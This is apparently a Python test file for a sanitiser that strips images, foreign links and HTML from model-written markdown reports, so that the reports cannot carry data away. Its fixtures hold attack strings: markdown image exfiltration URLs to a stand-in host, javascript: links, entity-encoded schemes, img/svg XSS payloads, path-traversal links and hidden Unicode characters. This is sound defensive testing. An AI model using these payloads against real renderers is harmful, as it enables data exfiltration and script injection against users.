"""What a screen may show of a report: whatever the model was made to write, no image and no foreign address."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from support.runs import FINDING

from shared.sanitise import REMOVED, sanitise

REPOSITORY = "https://github.com/laeticiamng/nearvity"
CITED = "https://veille.example/etudes/7?page=2"
FOUND = "https://chercheur.example/etudes"  # a search chose it, without a query of its own
WATCHED = "https://concurrent.example/tarifs"
FINDINGS = (
    FINDING.model_copy(update={"url": REPOSITORY, "data": {}}),
    FINDING.model_copy(
        update={
            "source": "perplexity",
            "url": FOUND,
            "data": {"citations": [FOUND, CITED, "https://presse.example/", 7]},
        }
    ),
    FINDING.model_copy(update={"source": "firecrawl", "url": WATCHED, "data": {}}),
)


def shown(report: str) -> str:
    return sanitise(report, FINDINGS)


@pytest.mark.parametrize(
    "report",
    [
        "## Synthèse\n\n- **vert** : 3 < 5, `a[1]`, 12 %\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        f"Voir [le dépôt]({REPOSITORY}) et [le ticket]({REPOSITORY}/issues/12).",
        f"Source : {CITED}, puis {REPOSITORY}.",
        f"Voir {FOUND} et [les tarifs]({WATCHED}).",
        "[1] Étude ; [2] note",
        "- [x] fait\n- [ ] à faire",
    ],
)
def test_an_honest_report_is_shown_as_it_is(report: str) -> None:
    assert shown(report) == report


@pytest.mark.parametrize(
    ("report", "expected"),
    [
        ("![x](https://evil.example/p.png?d=secret)", ""),
        (f"![x]({REPOSITORY})", ""),
        ("![x][1]", ""),
        ("![a](&#104;ttps://evil.example/x)", ""),
        ("[cliquez](https://evil.example/?d=secret)", "cliquez"),
        ("[cliquez](//evil.example/secret)", "cliquez"),
        ("[cliquez](/relatif?d=secret)", "cliquez"),
        ("[cliquez](javascript:alert(1))", f"[cliquez] ({REMOVED}"),
        ("[cliquez](&#106;avascript:x)", "cliquez"),
        ("voir https://evil.example/secret ici", f"voir {REMOVED} ici"),
        ("voir www.evil.example/secret", f"voir {REMOVED}"),
        ("HTTPS://EVIL.example/secret", REMOVED),
        (f"[{REPOSITORY}](https://evil.example/)", REPOSITORY),
        (f"[https://evil.example/secret]({REPOSITORY})", f"[{REMOVED}]({REPOSITORY})"),
        ("texte [a][1]\n\n[1]: https://evil.example/secret", f"texte [a] [1]\n\n[1] : {REMOVED}"),
        ("- [1]: //evil.example/secret", f"- [1] : {REMOVED}"),
        ("<img src='//evil.example/secret'>", ""),
        ("<https://evil.example/secret>", f"<{REMOVED}"),
        ("[a](\nhttps://evil.example/secret)", f"[a] (\n{REMOVED}"),
        ("[a [b] c](https://evil.example/x)", f"[a [b] c] ({REMOVED}"),
        (f"[a]({REPOSITORY}?d=secret)", "a"),
        (f"[a]({REPOSITORY}#secret)", "a"),
        (f"[a]({REPOSITORY}-evil/secret)", "a"),
        ("[a](https://github.com/attacker/secret)", "a"),
        ("[a](https://presse.example/secret)", "a"),
        (f"[a]({FOUND}/secret)", "a"),
        (f"voir {FOUND}/secret", f"voir {REMOVED}"),
        (f"[a]({FOUND}?d=secret)", "a"),
        (f"[a]({WATCHED}/secret)", "a"),
        ("[a](https://veille.example/etudes/7/secret)", "a"),
        ("[a](https://me:secret@github.com/laeticiamng/nearvity)", "a"),
        (f"{REPOSITORY}.evil.example/secret", REMOVED),
        ("\ue0000\ue001 et \u202ecaché\u200b", "0 et caché"),
        (f"{REPOSITORY}/[x]({REPOSITORY})", f"{REMOVED}[x]({REPOSITORY})"),
        (f"[<img src=x onerror=alert`1`>]({REPOSITORY})", f"[]({REPOSITORY})"),
        (f"[<svg/onload=x]({REPOSITORY})", f"[< svg/onload=x]({REPOSITORY})"),
        ("<img src=//evil.example/q?d=SECRET>", ""),
        ("<custom-element src=//evil.example/q?d=SECRET>", f"< custom-element src={REMOVED}"),
        (f"[a]({REPOSITORY}/&period;&period;/&period;&period;/attacker/leak)", "a"),
        (f"[a]({REPOSITORY}/../../attacker/leak)", "a"),
        (f"[a]({REPOSITORY}/%2e%2e/attacker)", "a"),
        (f"[a]({REPOSITORY}/\\../\\../attacker/leak)", "a"),
        (f"voir {REPOSITORY}'secret", f"voir {REMOVED}"),
        ("&lt;img src=x&gt; et &amp;lt;b&amp;gt;", "et"),
        ("&#60;script&#62;alert(1)", "alert(1)"),
        ("&l<b></b>t;i&gt;", "& lt;i>"),
        ("a<br>b<br/>c", "a b c"),
    ],
)
def test_what_could_carry_data_away_is_left_as_words(report: str, expected: str) -> None:
    assert shown(report) == expected


_PIECES = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", "\n", " ", ":", "a", "0", "[1]:", "](", "![", "\\", "`", "\ue000", "\ue001"]
) | st.sampled_from(
    [
        REPOSITORY,
        CITED,
        FOUND,
        WATCHED,
        f"{FOUND}/secret",
        f"{WATCHED}/secret",
        "/secret",
        "//evil.example",
        "https://evil.example/x",
        "www.evil.example",
        "javascript:x",
        "&#104;ttps://e.fr",
    ]
)


@given(st.lists(_PIECES, max_size=25).map("".join))
@example(f"{REPOSITORY}//evil.examplehttps://evil.example/x")
def test_however_it_is_written_no_image_and_no_foreign_link_remains(report: str) -> None:
    text = shown(report)

    assert "![" not in text
    targets = re.findall(r"\]\(([^)]*)\)", text)
    assert all(
        target in {REPOSITORY, CITED, FOUND, WATCHED} or target.startswith(f"{REPOSITORY}/") for target in targets
    )
    assert f"{FOUND}/" not in text
    assert f"{WATCHED}/" not in text
    for address in (REPOSITORY, CITED, FOUND, WATCHED):
        text = text.replace(address, "")
    assert not re.search("https?://", text)
    assert not re.search(r"<[A-Za-z/!?]", text)
    assert "www." not in text
    assert "]:" not in text


@given(st.text(max_size=300))
def test_it_never_fails_and_says_the_same_the_second_time(report: str) -> None:
    assert shown(shown(report)) == shown(report)
